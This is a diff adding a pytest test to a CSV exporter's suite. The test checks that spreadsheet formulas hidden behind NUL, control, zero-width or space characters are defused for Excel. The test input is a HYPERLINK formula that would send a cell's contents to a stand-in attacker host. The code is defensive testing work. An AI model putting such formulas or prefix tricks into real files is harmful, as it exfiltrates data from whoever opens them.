@@ -88,6 +88,17 @@ def test_spreadsheet_formulas_are_defused_for_excel() -> None:
     )
 
 
+@pytest.mark.parametrize(
+    "before", ["\0", "\0\0", "\x7f", "\x85", "\u200b", "\ufeff", " ", "\u3000"]
+)
+def test_a_formula_behind_controls_or_spaces_is_defused_for_excel(before: str) -> None:
+    """LibreOffice drops a NUL and ran "\0=HYPERLINK(…)" as a formula (from an attack review):
+    a cell starts at its first character that is not a space, a control or a format mark."""
+    cell = before + '=HYPERLINK("https://evil.example/?d="&C3,"x")'
+    (record,) = list(csv.reader(io.StringIO(to_csv([{"a": cell}], ["a"], excel=True)[1:])))[1:]
+    assert record == ["'" + cell]
+
+
 def test_markdown_is_a_well_formed_table(run) -> None:
     r = run(
         "list",
